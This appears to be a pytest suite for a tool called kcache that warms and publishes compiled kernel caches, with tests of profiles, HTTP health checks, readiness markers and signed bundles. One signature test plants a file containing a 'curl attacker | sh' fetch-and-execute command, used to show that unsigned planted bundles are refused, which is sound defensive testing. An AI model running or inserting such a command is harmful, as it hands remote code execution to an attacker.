"""`kcache warmup` and `kcache prebake` against real targets: in-process callables, a child
process, and a real HTTP server on 127.0.0.1 (tests/openai_server.py)."""

import json
import os
import statistics
import sys
import threading
from pathlib import Path

import pytest
from click.testing import CliRunner
from openai_server import OpenAIServer

from kcache import envfile, readiness, warmup
from kcache.cli import main
from kcache.cli.errors import ExitCode
from kcache.profiles import Profile

TESTS = Path(__file__).resolve().parent

PROFILES = """\
profiles:
  - {name: batch-8, batch_size: 8, input_tokens: 16, output_tokens: 2}
  - {name: one-a, batch_size: 1, input_tokens: 32, output_tokens: 4, repeats: 3}
  - {name: batch-2, batch_size: 2, input_tokens: 64, output_tokens: 3, repeats: 2}
  - {name: one-b, batch_size: 1, input_tokens: 8, output_tokens: 1}
"""
ORDER = ["one-a", "one-b", "batch-2", "batch-8"]

# ---- entrypoints (module:function targets for the tests below) ----------------------------------

CALLS: list[tuple[int, int, int]] = []


def record(batch_size, input_tokens, output_tokens):
    CALLS.append((batch_size, input_tokens, output_tokens))


def fail_on_batches(batch_size, input_tokens, output_tokens):
    if batch_size > 1:
        raise RuntimeError(f"out of memory at batch {batch_size}")


def exit_on_batches(batch_size, input_tokens, output_tokens):
    """Ends the process from inside a run, as user code parsing a command line it was not given does."""
    if batch_size > 1:
        sys.exit(2)


def write_kernel(batch_size, input_tokens, output_tokens):
    """Stands in for a compile: writes into the Inductor cache dir this process was started with."""
    cache = Path(os.environ["TORCHINDUCTOR_CACHE_DIR"])
    (cache / f"kernel-{batch_size}x{input_tokens}.so").write_text(os.environ["TMPDIR"])



def marker_unwritable(batch_size, input_tokens, output_tokens):
    """Compiles, then leaves ROOT where no warmup marker can be written any more (a full or read-only
    volume; here a directory where the marker goes, which stops root too)."""
    write_kernel(batch_size, input_tokens, output_tokens)
    marker = Path(os.environ["TORCHINDUCTOR_CACHE_DIR"]).parent / readiness.WARMUP_MARKER
    if not marker.is_dir():
        marker.unlink(missing_ok=True)
        marker.mkdir()
        (marker / "in-the-way").write_bytes(b"")


# ---- helpers ------------------------------------------------------------------------------------


def cli(*args, code=0):
    result = CliRunner().invoke(main, list(args), catch_exceptions=False)
    assert result.exit_code == code, result.output
    return result


@pytest.fixture
def profiles_file(tmp_path):
    path = tmp_path / "profiles.yaml"
    path.write_text(PROFILES)
    return path


# ---- ordering and in-process entrypoints ---------------------------------------------------------


def test_schedule_runs_singles_first_then_batches_by_size():
    ps = [Profile("b8", 8, 1, 1), Profile("s1", 1, 9, 1), Profile("b2", 2, 5, 1), Profile("s2", 1, 3, 1),
          Profile("b2-short", 2, 1, 1)]  # fmt: skip
    singles, batches = warmup.schedule(ps)
    assert [p.name for p in singles] == ["s1", "s2"]  # singles keep the file's order
    assert [p.name for p in batches] == ["b2-short", "b2", "b8"]


def test_entrypoint_is_called_in_schedule_order_with_repeats(profiles_file, tmp_path):
    CALLS.clear()
    out = cli("warmup", "--entrypoint", "test_warmup:record", "--profiles", str(profiles_file), "--json")
    report = json.loads(out.output)
    assert CALLS == [(1, 32, 4)] * 3 + [(1, 8, 1)] + [(2, 64, 3)] * 2 + [(8, 16, 2)]
    assert [p["name"] for p in report["profiles"]] == ORDER
    assert report["status"] == "ok" and report["marker"] is None
    one_a = report["profiles"][0]
    assert len(one_a["latencies_s"]) == 3 and one_a["first_s"] == one_a["latencies_s"][0]
    assert one_a["steady_s"] == statistics.median(one_a["latencies_s"][1:])


def test_first_is_the_compile_and_steady_the_median_of_the_rest():
    p = Profile("p", 1, 1, 1, 4)
    assert warmup.ProfileResult(p, True, (9.0, 1.0, 3.0, 2.0)).steady == 2.0
    assert warmup.ProfileResult(p, True, (9.0, 1.0, 3.0, 2.0)).first == 9.0
    assert warmup.ProfileResult(p, True, (5.0,)).steady == 5.0
    assert warmup.ProfileResult(p, False, (), "boom").steady is None


def test_failing_profile_is_reported_and_others_still_run(profiles_file, tmp_path):
    out = cli("warmup", "--entrypoint", "test_warmup:fail_on_batches", "--profiles", str(profiles_file),
              "--root", str(tmp_path / "root"), code=ExitCode.WARMUP)  # fmt: skip
    assert "profile batch-2 failed: RuntimeError: out of memory at batch 2" in out.output
    assert "profile batch-8 failed: RuntimeError: out of memory at batch 8" in out.output
    marker = readiness.read_marker(tmp_path / "root", readiness.WARMUP_MARKER)
    assert marker["status"] == "failed"
    assert [(p["name"], p["ok"]) for p in marker["profiles"]] == [
        ("one-a", True), ("one-b", True), ("batch-2", False), ("batch-8", False)]  # fmt: skip


def test_parallel_runs_profiles_together_but_singles_before_batches():
    together = threading.Barrier(2, timeout=10)  # passes only if both singles run at the same time
    events: list[tuple[str, str]] = []
    lock = threading.Lock()

    def fn(batch_size, input_tokens, output_tokens):
        with lock:
            events.append(("start", batch_size))
        if batch_size == 1:
            together.wait()
        with lock:
            events.append(("end", batch_size))

    ps = [Profile("b4", 4, 1, 1), Profile("s1", 1, 1, 1), Profile("s2", 1, 2, 1), Profile("b2", 2, 1, 1)]
    report = warmup.run(warmup.CallableTarget("fn", fn), ps, parallel=2)
    assert report.status == "ok", report
    first_batch = min(i for i, (kind, size) in enumerate(events) if kind == "start" and size > 1)
    last_single = max(i for i, (kind, size) in enumerate(events) if kind == "end" and size == 1)
    assert last_single < first_batch


def test_bad_entrypoints_are_config_errors():
    assert "expected module:function" in cli("warmup", "--entrypoint", "nocolon", code=2).output
    assert "cannot import" in cli("warmup", "--entrypoint", "no_such_module_x:f", code=2).output
    assert "has no callable" in cli("warmup", "--entrypoint", "test_warmup:nothing", code=2).output
    assert "exactly one of" in cli("warmup", code=2).output


@pytest.mark.parametrize("source, says", [
    ("raise RuntimeError('no CUDA driver found')\n", "RuntimeError: no CUDA driver found"),
    ("def run(:\n", "SyntaxError"),
    ("import argparse\nargparse.ArgumentParser().parse_args(['--port'])\n", "SystemExit: 2"),
], ids=["raises", "syntax-error", "exits"])  # fmt: skip
def test_an_entrypoint_module_that_fails_to_import_is_the_users_error_not_a_kcache_bug(tmp_path, monkeypatch,
                                                                                       source, says):  # fmt: skip
    """Only ImportError and ValueError were caught: a module that raised anything else while being
    imported (no GPU, a syntax error) left kcache as a bug in kcache, exit 70, "please report it"."""
    name = f"broken_entry_{tmp_path.name}"
    (tmp_path / f"{name}.py").write_text(source)
    monkeypatch.chdir(tmp_path)
    monkeypatch.setattr(sys, "path", list(sys.path))  # load_entrypoint puts the current directory first
    out = cli("warmup", "--entrypoint", f"{name}:run", "--json", code=ExitCode.USAGE)
    doc = json.loads(out.stdout)
    assert says in doc["error"] and f"cannot import {name}" in doc["error"] and "bug in kcache" not in doc["hint"]


def test_an_entrypoint_that_exits_mid_run_fails_its_profile_with_a_report_and_a_marker(profiles_file, tmp_path):
    """sys.exit() in the user's code (argparse reading kcache's own arguments) is no Exception: it left
    warmup with the exit code the user's code chose (0 read as success), no --json report and the marker
    saying "running" for ever, so the pod never became ready."""
    out = cli("warmup", "--entrypoint", "test_warmup:exit_on_batches", "--profiles", str(profiles_file),
              "--root", str(tmp_path / "root"), "--json", code=ExitCode.WARMUP)  # fmt: skip
    doc = json.loads(out.stdout)
    assert doc["status"] == "failed" and "SystemExit: 2" in doc["error"]
    marker = readiness.read_marker(tmp_path / "root", readiness.WARMUP_MARKER)
    assert marker["status"] == "failed"
    assert [(p["name"], p["ok"]) for p in marker["profiles"]] == [
        ("one-a", True), ("one-b", True), ("batch-2", False), ("batch-8", False)]  # fmt: skip


# ---- HTTP target ---------------------------------------------------------------------------------


def test_http_warmup_sends_every_shape_and_writes_marker(profiles_file, tmp_path):
    root = tmp_path / "root"
    with OpenAIServer() as server:
        out = cli("warmup", "--url", server.url, "--profiles", str(profiles_file), "--root", str(root), "--json")
    report = json.loads(out.output)
    assert report["status"] == "ok" and [p["name"] for p in report["profiles"]] == ORDER
    assert len(server.completions) == 3 * 1 + 1 + 2 * 2 + 8  # batch_size requests per run
    assert all(c["model"] == OpenAIServer.MODEL for c in server.completions)
    assert [(len(c["prompt"].split()), c["max_tokens"]) for c in server.completions[:4]] == [
        (31, 4)] * 3 + [(7, 1)]  # fmt: skip
    assert len({c["prompt"].split()[0] for c in server.completions}) == len(server.completions)  # unique prefixes
    assert sorted(c["max_tokens"] for c in server.completions[-8:]) == [2] * 8
    marker = readiness.read_marker(root, readiness.WARMUP_MARKER)
    assert marker["status"] == "ok" and marker["target"] == server.url and "finished_at" in marker


def test_a_served_model_id_longer_than_a_log_line_is_sent_back_whole():
    """The id from /v1/models went through the log-line cleaner, which cuts at 200 characters: a
    server serving a model by a long path got requests naming a model it does not serve, and every
    profile failed with its 404."""

    class LongNamed(OpenAIServer):
        MODEL = "/mnt/models/" + "org/" * 60 + "snapshots/0e9e39f249a16976918f6564b8830bc894c89659"

    with LongNamed() as server:
        report = warmup.run(warmup.HttpTarget(server.url), [Profile("one", 1, 4, 1)])
    assert report.status == "ok", [r.error for r in report.failed]
    assert [c["model"] for c in server.completions] == [LongNamed.MODEL]


def test_a_server_without_health_whose_model_list_is_long_is_healthy():
    """Without /health, the model list answers the health check: it was read under the 64 KiB cap of
    a health answer, not the 1 MiB of a model list, so a server listing many adapters was refused
    as over the limit until --wait-timeout, and warmup failed against a server that was up."""

    class ManyAdapters(OpenAIServer):
        ADAPTERS = tuple(f"lora-adapter-{i:05d}" for i in range(3000))  # ~130 KB of model list

    with ManyAdapters(no_health=True) as server:
        report = warmup.run(warmup.HttpTarget(server.url, wait_timeout=3, poll_interval=0.05),
                            [Profile("one", 1, 4, 1)])  # fmt: skip
    assert report.status == "ok", report.error or [r.error for r in report.failed]
    assert [c["model"] for c in server.completions] == [OpenAIServer.MODEL]


def test_a_health_check_answered_204_is_healthy():
    """Warmup took only 200 from /health, where `kcache ready --health-url` takes any 2xx: against
    a server answering 204 No Content it waited out --wait-timeout and failed, the pod unready."""

    class NoContent(OpenAIServer):
        HEALTHY = 204

    with NoContent() as server:
        report = warmup.run(warmup.HttpTarget(server.url, wait_timeout=3, poll_interval=0.05),
                            [Profile("one", 1, 4, 1)])  # fmt: skip
    assert report.status == "ok", report.error or [r.error for r in report.failed]


def test_http_500_fails_the_profile_with_the_error(tmp_path):
    with OpenAIServer(fail_status=500) as server:
        out = cli("warmup", "--url", server.url, "--root", str(tmp_path), code=ExitCode.WARMUP)
    assert "profile single-short failed: HTTP 500" in out.output and "engine exploded" in out.output
    assert readiness.read_marker(tmp_path, readiness.WARMUP_MARKER)["status"] == "failed"
    assert len(server.completions) == 1 + 1 + 4 + 8 + 16  # each profile stops at its first failure


def test_http_request_timeout_fails_the_profile(tmp_path, profiles_file):
    with OpenAIServer(hold=True) as server:
        out = cli("warmup", "--url", server.url, "--profiles", str(profiles_file), "--request-timeout", "0.3",
                  "--retries", "0", "--json", code=ExitCode.WARMUP)  # fmt: skip
    report = json.loads(out.output)
    assert report["status"] == "failed"
    assert all(p["error"] == "no complete answer within 0.3 s (--request-timeout)" for p in report["profiles"])
    # a failed command's object says so as every command's error does: an error, a hint, the exit code
    assert "--request-timeout" in report["error"] and report["hint"] and report["exit_code"] == ExitCode.WARMUP


def test_health_wait_polls_until_healthy():
    with OpenAIServer(unhealthy=3) as server:
        target = warmup.HttpTarget(server.url, wait_timeout=30, poll_interval=0.01)
        report = warmup.run(target, [Profile("p", 1, 4, 1)])
    assert report.status == "ok" and server.health_checks == 4


def test_health_falls_back_to_models_when_there_is_no_health_endpoint():
    with OpenAIServer(no_health=True) as server:
        report = warmup.run(warmup.HttpTarget(server.url, wait_timeout=5), [Profile("p", 1, 4, 1)])
    assert report.status == "ok" and server.health_checks == 1


def test_unhealthy_server_fails_after_wait_timeout(tmp_path):
    with OpenAIServer(unhealthy=-1) as server:
        out = cli("warmup", "--url", server.url, "--wait-timeout", "0.2", "--root", str(tmp_path), code=ExitCode.WARMUP)
    assert "was not healthy within 0.2 s (--wait-timeout): GET /health: HTTP 503" in out.output
    assert not server.completions
    assert readiness.read_marker(tmp_path, readiness.WARMUP_MARKER)["status"] == "failed"


# ---- prebake -------------------------------------------------------------------------------------


def test_prebake_entrypoint_runs_in_a_child_with_root_env_and_publishes(tmp_path, profiles_file, monkeypatch):
    monkeypatch.setenv("PYTHONPATH", os.pathsep.join([str(TESTS), os.environ.get("PYTHONPATH", "")]))
    root = tmp_path / "A"
    out = cli("prebake", "--root", str(root), "--entrypoint", "test_warmup:write_kernel", "--profiles",
              str(profiles_file), "--model", "m", "--json")  # fmt: skip
    doc = json.loads(out.output)
    assert doc["restore"]["status"] == "miss"
    assert doc["warmup"]["status"] == "ok" and doc["warmup"]["counters"] is None  # no torch in that child
    # The child ran with ROOT's environment: kernels landed in ROOT/inductor, TMPDIR was ROOT/tmp.
    assert (root / "inductor/kernel-8x16.so").read_text() == str(root / "tmp")
    assert doc["publish"]["files"] == 4 and doc["publish"]["created"]
    assert readiness.read_marker(root, readiness.WARMUP_MARKER)["status"] == "ok"
    restored = json.loads(cli("restore", "--into", str(tmp_path / "B"), "--model", "m", "--json").output)
    assert restored["status"] == "hit" and (tmp_path / "B/inductor/kernel-1x32.so").is_file()


def test_prebake_publishes_nothing_when_warmup_fails(tmp_path, monkeypatch, isolated_home):
    monkeypatch.setenv("PYTHONPATH", os.pathsep.join([str(TESTS), os.environ.get("PYTHONPATH", "")]))
    out = cli("prebake", "--root", str(tmp_path / "A"), "--entrypoint", "test_warmup:fail_on_batches",
              code=ExitCode.WARMUP)  # fmt: skip
    assert "nothing was published" in out.output
    assert not list((isolated_home / "store").glob("manifests/*/*"))


def test_prebake_refuses_a_bad_ref_ttl_setting_before_its_warmup(tmp_path, profiles_file, monkeypatch):
    """The setting was read only when the ref was written: a warmup of minutes, a committed bundle
    and then exit 2."""
    monkeypatch.setenv("PYTHONPATH", os.pathsep.join([str(TESTS), os.environ.get("PYTHONPATH", "")]))
    monkeypatch.setenv("KCACHE_REF_TTL", "abc")
    root = tmp_path / "A"
    out = cli("prebake", "--root", str(root), "--entrypoint", "test_warmup:write_kernel", "--profiles",
              str(profiles_file), "--model", "m", code=ExitCode.USAGE)  # fmt: skip
    assert "KCACHE_REF_TTL" in out.output
    assert not (root / "inductor").exists()  # the warmup never ran


def test_prebake_takes_the_allow_empty_its_error_names(tmp_path, profiles_file, monkeypatch, isolated_home):
    """A warmup that compiled nothing made prebake say "pass --allow-empty", which it refused."""
    monkeypatch.setenv("PYTHONPATH", os.pathsep.join([str(TESTS), os.environ.get("PYTHONPATH", "")]))
    args = ["prebake", "--root", str(tmp_path / "A"), "--entrypoint", "test_warmup:record", "--profiles",
            str(profiles_file), "--model", "m", "--json"]  # fmt: skip
    refused = json.loads(cli(*args, code=ExitCode.USAGE).stdout)
    assert "--allow-empty" in refused["error"]
    published = json.loads(cli(*args, "--allow-empty").stdout)["publish"]
    assert published["files"] == 0 and published["created"]


def test_warmup_root_that_cannot_be_made_is_a_root_error_naming_the_flag(tmp_path):
    """A --root below a file was exit 70, "a bug in kcache"; the hint of a root error named only
    restore's --into and --node-cache."""
    (tmp_path / "file").write_bytes(b"")
    out = cli("warmup", "--root", str(tmp_path / "file/root"), "--url", "http://127.0.0.1:1", "--wait-timeout", "0",
              code=ExitCode.ROOT)  # fmt: skip
    assert "file/root" in out.output and "--root" in out.output


def test_prebake_child_without_report_is_an_error(tmp_path, monkeypatch):
    monkeypatch.setenv("PYTHONPATH", os.pathsep.join([str(TESTS), os.environ.get("PYTHONPATH", "")]))
    out = cli("prebake", "--root", str(tmp_path / "A"), "--entrypoint", "test_warmup:missing", code=ExitCode.WARMUP)
    assert "exited with code 2 and no report" in out.output


def test_prebake_url_needs_a_laid_out_root_then_publishes_what_the_server_compiled(tmp_path, profiles_file):
    root = tmp_path / "A"
    with OpenAIServer() as server:
        assert "has no kcache.env" in cli("prebake", "--root", str(root), "--url", server.url, code=2).output
    cli("restore", "--into", str(root), "--model", "m")
    exports = envfile.read(root / "kcache.env")
    with OpenAIServer(compile_into=Path(exports["TORCHINDUCTOR_CACHE_DIR"])) as server:
        doc = json.loads(cli("prebake", "--root", str(root), "--url", server.url, "--profiles", str(profiles_file),
                             "--model", "m", "--json").output)  # fmt: skip
    assert doc["restore"] is None and doc["warmup"]["status"] == "ok"
    assert doc["publish"]["files"] == 4  # one kernel per request shape


def test_a_signing_prebake_url_refuses_a_root_restored_from_a_bundle_its_key_did_not_sign(tmp_path, profiles_file):
    """With --url, ROOT was restored beforehand: from a bundle a store writer planted, when that restore
    checked no signature. prebake published all of ROOT signed, and every pod requiring signatures
    then restored the planted files. It refuses (exit 9) before the warmup, and publishes nothing;
    a ROOT restored from what the key signed is published."""
    planted = tmp_path / "planted" / "inductor" / "fxgraph"
    planted.mkdir(parents=True)
    (planted / "evil.py").write_text("import os; os.system('curl attacker | sh')\n")
    cli("publish", "--from", str(tmp_path / "planted"), "--model", "m")
    cli("keygen", "ci", "--dir", str(tmp_path / "k"))
    key = str(tmp_path / "k" / "ci.key")
    root = tmp_path / "A"
    cli("restore", "--into", str(root), "--model", "m")  # no --require-signature: the planted bundle is laid
    assert (root / "inductor" / "fxgraph" / "evil.py").exists()
    exports = envfile.read(root / "kcache.env")
    with OpenAIServer(compile_into=Path(exports["TORCHINDUCTOR_CACHE_DIR"])) as server:
        out = cli("prebake", "--root", str(root), "--url", server.url, "--profiles", str(profiles_file), "--model", "m",
                  "--signing-key", key, "--json", code=ExitCode.SIGNATURE)  # fmt: skip
        assert not server.completions  # refused before the warmup
    doc = json.loads(out.stdout)
    assert doc["exit_code"] == ExitCode.SIGNATURE and "did not sign" in doc["error"]
    pod = cli("restore", "--into", str(tmp_path / "pod"), "--model", "m", "--trusted-key",
              str(tmp_path / "k" / "ci.pub"), "--require-signature", "--json")  # fmt: skip
    assert json.loads(pod.stdout)["status"] == "error"  # still only the planted, unsigned bundle: nothing signed
    assert not (tmp_path / "pod" / "inductor" / "fxgraph" / "evil.py").exists()
    # A ROOT restored from a bundle the key signed is published.
    clean = tmp_path / "clean"
    (clean / "inductor").mkdir(parents=True)
    (clean / "inductor" / "good.so").write_bytes(b"kernel")
    cli("publish", "--from", str(clean), "--model", "m", "--signing-key", key)
    signed = tmp_path / "B"
    cli("restore", "--into", str(signed), "--model", "m", "--trusted-key", str(tmp_path / "k" / "ci.pub"),
        "--require-signature")  # fmt: skip
    exports = envfile.read(signed / "kcache.env")
    with OpenAIServer(compile_into=Path(exports["TORCHINDUCTOR_CACHE_DIR"])) as server:
        doc = json.loads(cli("prebake", "--root", str(signed), "--url", server.url, "--profiles", str(profiles_file),
                             "--model", "m", "--signing-key", key, "--json").output)  # fmt: skip
    assert doc["publish"]["created"] and doc["warmup"]["status"] == "ok"


# ---- readiness signals and a failed warmup ---------------------------------------------------------


def test_marker_shows_signals_while_warmup_runs(tmp_path, profiles_file):
    root = tmp_path / "root"
    root.mkdir()
    readiness.write_marker(root, readiness.RESTORE_MARKER, {"status": "hit"})
    with OpenAIServer(hold=True) as server:
        worker = threading.Thread(target=cli, args=("warmup", "--url", server.url, "--root", str(root),
                                                    "--profiles", str(profiles_file)))  # fmt: skip
        worker.start()
        assert server.arrived.wait(30)  # the first request is held: weights loaded, nothing compiled yet
        state = readiness.check(root)
        server.release.set()
        worker.join()
    assert state.warmup["status"] == "running" and not state.ready
    assert (state.signal("weights").ok, state.signal("graphs").ok) == (True, False)
    assert state.reason == "warmup running: compiled graphs not done"
    done = readiness.check(root)
    assert done.ready and all(s.ok for s in done.signals)


def test_ready_cold_serves_after_a_failed_warmup_once_the_server_answered(tmp_path):
    readiness.write_marker(tmp_path, readiness.RESTORE_MARKER, {"status": "miss"})
    with OpenAIServer(fail_status=500) as server:
        cli("warmup", "--url", server.url, "--root", str(tmp_path), "--on-failure", "ready-cold", code=ExitCode.WARMUP)
    state = readiness.check(tmp_path)
    assert state.ready and state.cold and state.warmup["status"] == "failed"
    assert state.signal("weights").ok and not state.signal("warmup").ok
    assert cli("ready", "--root", str(tmp_path)).output.startswith("kcache: ready (cold)")


def test_ready_cold_never_covers_a_server_that_never_answered(tmp_path):
    readiness.write_marker(tmp_path, readiness.RESTORE_MARKER, {"status": "miss"})
    with OpenAIServer(unhealthy=-1) as server:
        cli("warmup", "--url", server.url, "--root", str(tmp_path), "--on-failure", "ready-cold",
            "--wait-timeout", "0.2", code=ExitCode.WARMUP)  # fmt: skip
    state = readiness.check(tmp_path)
    assert not state.ready and state.reason == "warmup failed (weights not loaded)"


def test_entrypoint_signals_weights_once_a_run_returned(tmp_path, profiles_file):
    out = cli("warmup", "--entrypoint", "test_warmup:record", "--profiles", str(profiles_file), "--json")
    assert json.loads(out.output)["signals"] == {"weights": True, "graphs": True}
    out = cli("warmup", "--entrypoint", "test_warmup:fail_on_batches", "--profiles", str(profiles_file), "--json",
              code=ExitCode.WARMUP)  # fmt: skip
    assert json.loads(out.output)["signals"] == {"weights": True, "graphs": False}


@pytest.mark.parametrize("url, why", [("http://127.0.0.1:99999", "the port 99999 is out of range (0-65535)"),
                                      ("http://[::1]:65536/v1", "the port 65536 is out of range (0-65535)"),
                                      ("http://127.0.0.1:80a", "the port is not a number")])  # fmt: skip
def test_a_url_port_that_is_not_a_port_says_why(url, why):
    result = cli("warmup", "--url", url, code=2)
    assert f"--url {url!r}: {why}" in result.stderr


@pytest.mark.parametrize("what", ["profiles", "entrypoint", "url"])
def test_a_warmup_that_cannot_start_still_writes_a_failed_marker(tmp_path, what):
    """A profiles file that does not load, an entrypoint that does not import, a URL that is none: the
    warmup ended before any marker, and readiness waited for one for good, whatever --on-failure said."""
    args = {"profiles": ["--url", "http://127.0.0.1:9", "--profiles", str(tmp_path / "missing.yaml")],
            "entrypoint": ["--entrypoint", "no_such_module_here:run"],
            "url": ["--url", "not a url"]}[what]  # fmt: skip
    result = CliRunner().invoke(main, ["warmup", *args, "--root", str(tmp_path / "root"), "--on-failure",
                                       "ready-cold", "--json"])  # fmt: skip
    assert result.exit_code != 0
    marker = readiness.read_marker(tmp_path / "root", readiness.WARMUP_MARKER)
    assert marker is not None and marker["status"] == "failed" and marker["on_failure"] == "ready-cold"
    assert marker["error"] and json.loads(result.stdout)["exit_code"] == result.exit_code


def test_a_marker_that_cannot_be_written_loses_neither_the_warmup_nor_its_report(tmp_path, profiles_file, monkeypatch):
    """The marker is readiness's signal, not the warmup's result: a marker write that failed after the first
    profile (ROOT full or read-only) ended the warmup there with no report, and prebake, which reads the
    report, published nothing of what it had compiled. Now the warmup runs on, the report comes whole,
    and the exit code says the marker failed."""
    monkeypatch.setenv("PYTHONPATH", os.pathsep.join([str(TESTS), os.environ.get("PYTHONPATH", "")]))
    out = cli("prebake", "--root", str(tmp_path / "A"), "--entrypoint", "test_warmup:marker_unwritable", "--profiles",
              str(profiles_file), "--model", "m", "--json")  # fmt: skip
    doc = json.loads(out.output)
    assert doc["warmup"]["status"] == "ok" and doc["publish"]["files"] == 4
    root = tmp_path / "B"
    cli("restore", "--into", str(root), "--model", "other")  # a miss: lays out ROOT and its kcache.env
    monkeypatch.setenv("TORCHINDUCTOR_CACHE_DIR", str(root / "inductor"))
    monkeypatch.setenv("TMPDIR", str(root / "tmp"))
    out = cli("warmup", "--entrypoint", "test_warmup:marker_unwritable", "--profiles", str(profiles_file), "--root",
              str(root), "--json", code=ExitCode.ROOT)  # fmt: skip
    report = json.loads(out.stdout)
    assert report["status"] == "ok" and len(report["profiles"]) == 4 and report["marker"] is None
    assert readiness.WARMUP_MARKER in report["marker_error"] and report["exit_code"] == ExitCode.ROOT
